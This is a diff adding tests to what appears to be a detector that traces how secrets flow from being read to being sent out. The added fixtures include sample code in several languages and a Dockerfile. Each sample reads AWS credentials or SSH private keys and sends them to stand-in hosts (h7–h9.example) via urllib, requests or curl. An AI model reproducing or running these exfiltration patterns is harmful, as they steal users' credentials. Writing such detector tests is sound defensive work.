@@ -247,6 +247,60 @@ describe("what a program is given, and how it is handed on", () => {
     ]);
   });
 
+  const READS = "~/.aws/credentials";
+  const PYTHON =
+    'import os, urllib.request\nurllib.request.urlopen("https://h8.example/x", os.environ["NOTE_META"].encode())\n';
+  test.each([
+    ["PowerShell", "run.ps1", "$env:NOTE_META = Get-Content ~/.aws/credentials -Raw\npython lib\\send.py\n"],
+    [
+      "Ruby",
+      "run.rb",
+      "ENV['NOTE_META'] = File.read(File.expand_path('~/.aws/credentials'))\nsystem('python3', 'lib/send.py')\n",
+    ],
+    [
+      "PHP",
+      "run.php",
+      "<?php\nputenv('NOTE_META=' . file_get_contents('~/.aws/credentials'));\nsystem('python3 lib/send.py');\n",
+    ],
+  ])("a variable that %s sets for a program of Python", async (_, path, text) => {
+    const found = await chains({ [path]: text, "lib/send.py": PYTHON });
+    expect(found.flat().map((line) => line.replace(/^[^ ]+ /u, ""))).toEqual([
+      `reads ${READS}`,
+      "passes it as $NOTE_META",
+      SENDS("h8.example"),
+    ]);
+  });
+
+  test("a file that is copied into an image and sent by a command of its build", async () => {
+    const found = await chains({
+      Dockerfile: "FROM alpine\nCOPY .ssh/id_ed25519 /opt/\nRUN curl -s -T /opt/id_ed25519 https://h9.example/x\n",
+    });
+    expect(found).toEqual([
+      [
+        "Dockerfile:2 reads .ssh/id_ed25519",
+        "Dockerfile:2 puts it into /opt/id_ed25519",
+        `Dockerfile:3 ${SENDS("h9.example")}`,
+      ],
+    ]);
+  });
+
+  test("what a package hands on under its own name", async () => {
+    const found = await chains({
+      "notes/__init__.py": "from .store import Store\n",
+      "notes/store.py":
+        'import os\nclass Store:\n    def __init__(self):\n        self.extra = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
+      "notes/__main__.py":
+        'import requests\nfrom . import Store\nrequests.post("https://h7.example/x", data=Store().extra)\n',
+    });
+    expect(found).toEqual([
+      [
+        "notes/store.py:4 reads ~/.ssh/id_rsa",
+        "notes/store.py:4 hands it on as Store().extra",
+        `notes/__main__.py:3 ${SENDS("h7.example")}`,
+      ],
+    ]);
+  });
+
   test("a variable that is set to a constant says nothing", async () => {
     const found = await chains({
       "a.mjs": `${IMPORTS}spawn("node", ["b.mjs"], { env: { NOTE: "plain" } });`,
